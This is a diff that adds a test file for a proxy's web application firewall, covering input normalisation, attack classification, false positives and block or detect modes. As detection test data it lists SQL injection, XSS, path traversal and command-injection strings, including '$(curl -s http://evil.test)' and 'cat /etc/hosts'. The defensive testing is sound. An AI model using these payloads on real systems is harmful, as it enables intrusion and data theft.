@@ -1,0 +1,180 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import { judgeParts } from '../../../../../docker/l7/policies/waf/judge.ts';
+import { normalised } from '../../../../../docker/l7/policies/waf/normalised.ts';
+import { bodyParts } from '../../../../../docker/l7/policies/waf/parts.ts';
+import type { L7Patch } from '../../../../../docker/protocol/balancer.ts';
+import type { WafStats } from '../../../../../docker/protocol/l7/policy-stats.ts';
+import { cleanUp, httpBackend, proxyTo } from '../rig.ts';
+import { get } from './get.ts';
+
+afterEach(cleanUp);
+
+const families = (text: string, paranoia = 1) =>
+  new Set(judgeParts([{ where: 'query q', kind: 'argument', text }], paranoia).map(({ family }) => family));
+
+it.each([
+  ['%3Cscript%3E', '<script>'],
+  ['%253Cscript%253E', '<script>'],
+  ['%u003cSCRIPT%u003e', '<script>'],
+  ['&lt;script&#62;&#x3c;', '<script><'],
+  ['UN/**/ION\t\n SELECT', 'un ion select'],
+  ['\uff1cscript\uff1e', '<script>'],
+  ['50% off', '50% off'],
+  ['%', '%'],
+])('%s is read as %s', (written, meant) => {
+  expect(normalised(written)).toBe(meant);
+});
+
+describe('what is an attack', () => {
+  it.each([
+    ['sql', "1' OR '1'='1"],
+    ['sql', "1' or 1=1 --"],
+    ['sql', '1 UNION ALL SELECT name, secret FROM users'],
+    ['sql', '1; DROP TABLE users'],
+    ['sql', "1' AND SLEEP(5)#"],
+    ['sql', '1%27%20UNION%2f**%2fSELECT%201'],
+    ['script', '<script>alert(1)</script>'],
+    ['script', '<img src=x onerror=alert(1)>'],
+    ['script', 'javascript:alert(1)'],
+    ['script', '%3Csvg/onload=alert(1)%3E'],
+    ['traversal', '../../etc/passwd'],
+    ['traversal', '..%2f..%2fsecret'],
+    ['command', '8.8.8.8; cat /etc/hosts'],
+    ['command', 'x | whoami'],
+    ['command', '$(curl -s http://evil.test)'],
+  ])('%s: %s', (family, text) => {
+    expect(families(text)).toContain(family);
+  });
+});
+
+describe('what is none', () => {
+  it.each([
+    "O'Brien and O'Neill",
+    'union square, select seats',
+    'rock and roll',
+    'Tom & Jerry; a film',
+    'price > 10 && price < 20',
+    'How do I drop a table off at the store?',
+    'C:\\Users\\anna',
+    'onboarding=done',
+    'see chapter 3.. and 4',
+    'https://shop.test/?a=1&b=2#top',
+    'SELECT your favourite colour',
+    'my script for the play',
+  ])('%s', (text) => {
+    expect([...families(text)]).toEqual([]);
+  });
+
+  it('is taken for one by a higher level', () => {
+    const text = 'select a seat from the plan';
+    expect([...families(text)]).toEqual([]);
+    expect([...families(text, 2)]).toEqual(['sql']);
+  });
+});
+
+it('takes no longer for what is made to take long', () => {
+  const nasty = ["'".repeat(100_000), '<a '.repeat(50_000), 'select '.repeat(20_000), '%25'.repeat(50_000)];
+  const began = performance.now();
+  for (const text of nasty) families(text, 2);
+  expect(performance.now() - began).toBeLessThan(15_000);
+});
+
+describe('bodies', () => {
+  const texts = (type: string, body: string, whole = true) =>
+    bodyParts(type, Buffer.from(body), whole)?.map(({ where, text }) => [where, text]);
+
+  it('are read as what they say they are', () => {
+    expect(texts('application/x-www-form-urlencoded', 'a=1&b=x+y')).toEqual([
+      ['body a', '1'],
+      ['body b', 'x y'],
+    ]);
+    expect(texts('application/json; charset=utf-8', '{"a":{"b":["x",1]}}')).toEqual([['body a b 0', 'x']]);
+    const parts = '--B\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n--B\r\n';
+    const file = 'Content-Disposition: form-data; name="f"; filename="../x"\r\n\r\n<script>\r\n--B--';
+    expect(texts('multipart/form-data; boundary=B', parts + file)).toEqual([
+      ['body a', 'x'],
+      ['file f', '../x'],
+    ]);
+    expect(texts('image/png', '<script>')).toEqual([]);
+  });
+
+  it('are suspect when they are not, but not when only cut short', () => {
+    expect(texts('application/json', '{"a":')).toBeUndefined();
+    expect(texts('application/json', '{"a":', false)).toEqual([['body', '{"a":']]);
+    expect(texts('multipart/form-data', 'x')).toBeUndefined();
+  });
+});
+
+async function guarded(settings: NonNullable<L7Patch['waf']>) {
+  const bodies: string[] = [];
+  const target = await httpBackend((incoming, outgoing) => {
+    let body = '';
+    incoming.on('data', (chunk) => (body += String(chunk)));
+    incoming.on('end', () => {
+      bodies.push(body);
+      outgoing.end('served');
+    });
+  });
+  const made = await proxyTo([target.port], { waf: { mode: 'block', ...settings } });
+  const stats = () => made.proxy.pipeline.stats().waf as unknown as WafStats;
+  return { ...made, bodies, stats };
+}
+
+const form = { 'content-type': 'application/x-www-form-urlencoded' };
+const injection = '/?id=1%27%20or%20%271%27=%271';
+
+describe('the firewall', () => {
+  it('blocks what scores too much, and says which rule found what where', async () => {
+    const { port, stats, log, bodies } = await guarded({});
+    expect((await get(port, injection)).status).toBe(403);
+    expect(bodies).toEqual([]);
+    expect(stats()).toMatchObject({ inspected: 1, blocked: 1, byRule: { 'sql-always-true': 1 } });
+    expect(stats().recent[0]).toMatchObject({ rule: 'sql-always-true', where: 'query id', blocked: true });
+    expect(log.at(-1)).toMatchObject({ by: 'waf', target: null });
+    expect((await get(port, '/?id=1')).text).toBe('served');
+  });
+
+  it('only says so where it is to detect', async () => {
+    const { port, stats } = await guarded({ mode: 'detect' });
+    expect((await get(port, injection)).text).toBe('served');
+    expect(stats()).toMatchObject({ blocked: 0, detected: 1 });
+  });
+
+  it('reads the body, and the target still gets all of it', async () => {
+    const { port, bodies, stats } = await guarded({});
+    expect((await get(port, '/', form, 'POST', "id=1'+or+'1'='1")).status).toBe(403);
+    expect((await get(port, '/', form, 'POST', 'id=1')).text).toBe('served');
+    expect(bodies).toEqual(['id=1']);
+    expect(stats().recent[0]?.where).toBe('body id');
+  });
+
+  it('passes the same injection in a body where it reads the query alone', async () => {
+    const { port } = await guarded({ inspect: 'query' });
+    expect((await get(port, injection)).status).toBe(403);
+    expect((await get(port, '/', form, 'POST', "id=1'+or+'1'='1")).text).toBe('served');
+  });
+
+  it('does not look beyond its bound, and says so', async () => {
+    const { port, bodies, log } = await guarded({ bodyBytes: 100 });
+    const body = `fill=${'x'.repeat(5000)}&id=1'+or+'1'='1`;
+    expect((await get(port, '/', form, 'POST', body)).text).toBe('served');
+    expect(bodies).toEqual([body]);
+    expect(JSON.stringify(log.at(-1))).toContain('of the body only the first');
+  });
+
+  it('turns away listed agents, file types and what is no request of a browser', async () => {
+    const { port } = await guarded({});
+    expect((await get(port, '/', { 'user-agent': 'sqlmap/1.7' })).status).toBe(403);
+    expect((await get(port, '/dump.SQL')).status).toBe(403);
+    expect((await get(port, '/?a=%00')).status).toBe(403);
+    expect((await get(port, '/style.css', { 'user-agent': 'Mozilla/5.0' })).status).toBe(200);
+    const json = { 'content-type': 'application/json' };
+    expect((await get(port, '/', json, 'POST', '{"a":')).status).toBe(403);
+  });
+
+  it('is not there while it is off', async () => {
+    const { port, proxy } = await guarded({ mode: 'off' });
+    expect((await get(port, injection)).text).toBe('served');
+    expect(proxy.pipeline.stats()).not.toHaveProperty('waf');
+  });
+});
